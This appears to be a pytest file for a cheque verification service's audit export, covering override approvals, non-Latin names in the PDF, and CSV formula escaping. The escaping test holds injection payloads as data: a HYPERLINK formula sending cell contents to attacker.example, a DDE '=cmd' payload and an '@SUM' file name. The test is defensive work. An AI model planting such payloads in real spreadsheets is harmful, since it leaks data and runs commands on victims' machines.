"""The audit report as the service exports it: reviews of overrides, CSV formula injection, non-Latin names."""

from __future__ import annotations

import csv
import re

import pytest

from chequeverify.reports import CSV_COLUMNS
from chequeverify.service import Decision
from tests.service_fixtures import cheque_with, enrol, fast_kdf, read_pdf, scribble, set_thresholds, team  # noqa: F401

HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A2,"details")'


def read_csv(path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        reader = csv.DictReader(fh)
        assert tuple(reader.fieldnames) == CSV_COLUMNS
        return list(reader)


def rejected(team, writer: int) -> int:
    cheque, box = cheque_with(scribble(writer, 1))
    v = team.carl.verify(cheque, "100-1", box=box)
    assert v.decision is Decision.REJECT
    return v.cheque_id


def test_the_report_says_who_approved_or_refused_an_override(team, tmp_path):
    enrol(team)
    set_thresholds(team, accept=0.995, reject=0.99, adapt_per_signatory=False)
    refused, approved, waiting = rejected(team, 2), rejected(team, 3), rejected(team, 4)
    for cid in (refused, approved, waiting):
        team.carl.decide(cid, "accept", "customer confirmed by phone")
    team.sam.refuse_override(refused, "forgery")
    team.sue.approve_override(approved, "called too")
    team.sue.export(tmp_path / "audit.csv")
    rows = {int(r["cheque_id"]): r for r in read_csv(tmp_path / "audit.csv")}

    def view(cid):
        keys = ("model_decision", "clerk_decision", "decision_status", "decided_by", "approved_by", "refused_by",
                "review_note", "final_decision")  # fmt: skip
        return tuple(rows[cid][k] for k in keys)

    assert view(refused) == ("REJECT", "ACCEPT", "refused", "carl", "", "sam", "forgery", "REJECT")
    assert view(approved) == ("REJECT", "ACCEPT", "final", "carl", "sue", "", "called too", "ACCEPT")
    assert view(waiting) == ("REJECT", "ACCEPT", "awaiting_approval", "carl", "", "", "", "")
    assert rows[refused]["reviewed_at"] and rows[approved]["reviewed_at"] and not rows[waiting]["reviewed_at"]

    team.sue.export(tmp_path / "audit.pdf")
    text = " ".join(read_pdf(tmp_path / "audit.pdf").text.split())  # long lines are wrapped at spaces
    block = text[text.index(f"Cheque {refused} ") : text.index(f"Cheque {approved} ", text.index(f"Cheque {refused} "))]
    assert "approved by" not in block
    assert re.search(r"\[refused\] by carl at [\d: -]+; override refused by sam at [\d: -]+ \(forgery\); "
                     r"decision in force REJECT", block), block  # fmt: skip
    assert re.search(r"override approved by sue at [\d: -]+ \(called too\); decision in force ACCEPT", text)


def test_a_plain_decision_is_in_force_without_a_review(team, tmp_path):
    enrol(team)
    cheque, box = cheque_with(scribble(1, 7))
    v = team.carl.verify(cheque, "100-1", box=box)
    team.carl.decide(v.cheque_id, "refer", "the date is odd")
    cheque, box = cheque_with(scribble(1, 6))
    undecided = team.carl.verify(cheque, "100-1", box=box).cheque_id
    team.sue.export(tmp_path / "audit.csv")
    rows = {int(r["cheque_id"]): r for r in read_csv(tmp_path / "audit.csv")}
    assert (rows[v.cheque_id]["final_decision"], rows[v.cheque_id]["approved_by"], rows[v.cheque_id]["refused_by"]) \
        == ("REFER", "", "")  # fmt: skip
    assert (rows[undecided]["decision_status"], rows[undecided]["final_decision"]) == ("undecided", "")


def test_the_csv_never_holds_a_formula(team, tmp_path):
    team.sue.add_account("100-1", "=cmd|' /C calc'!A0", "any one")
    team.sue.add_signatory("100-1", "@Ada")
    for r in team.sue.add_references("100-1", "@Ada", [scribble(1, v) for v in (1, 2, 3)]):
        team.sam.approve_reference(r.id)
    cheque, box = cheque_with(scribble(2, 1))
    scan = tmp_path / "@SUM(1+1)cheque.png"
    cheque.save(scan)
    v = team.carl.verify(scan, "100-1", box=box)
    team.carl.decide(v.cheque_id, "refer" if v.decision is not Decision.REFER else "reject", HYPERLINK)
    team.sue.export(tmp_path / "audit.csv")
    (row,) = read_csv(tmp_path / "audit.csv")
    assert row["reason"] == "'" + HYPERLINK
    assert row["file_name"] == "'@SUM(1+1)cheque.png"
    assert row["holder"] == "'=cmd|' /C calc'!A0"
    assert row["signatories"].startswith("'@Ada ")
    assert re.fullmatch(r"-?\d+\.\d{4}", row["model_score"]), row["model_score"]  # a number, negative or not
    assert float(row["model_score"]) == pytest.approx(v.score, abs=1e-4)
    for column, value in row.items():
        if column != "model_score":
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)


def test_the_pdf_prints_names_in_any_script(team, tmp_path):
    names = {"राजेश कुमार": 1, "সুব্রত দাস": 2, "Łukasz Żółć": 3, "Δήμητρα Παππά": 4}
    team.sue.add_account("100-1", "Дмитрий Иванов", "any one")
    for name, writer in names.items():
        team.sue.add_signatory("100-1", name)
        for r in team.sue.add_references("100-1", name, [scribble(writer, v) for v in (1, 2, 3)]):
            team.sam.approve_reference(r.id)
    cheque, box = cheque_with(scribble(1, 7))
    team.carl.verify(cheque, "100-1", box=box)
    team.sue.export(tmp_path / "audit.pdf")
    pdf = read_pdf(tmp_path / "audit.pdf")
    assert "(Дмитрий Иванов)" in pdf.text
    signatories = next(line for line in pdf.text.splitlines() if line.startswith("Signatories: "))
    for name in names:
        assert name in signatories
    assert "?" not in signatories
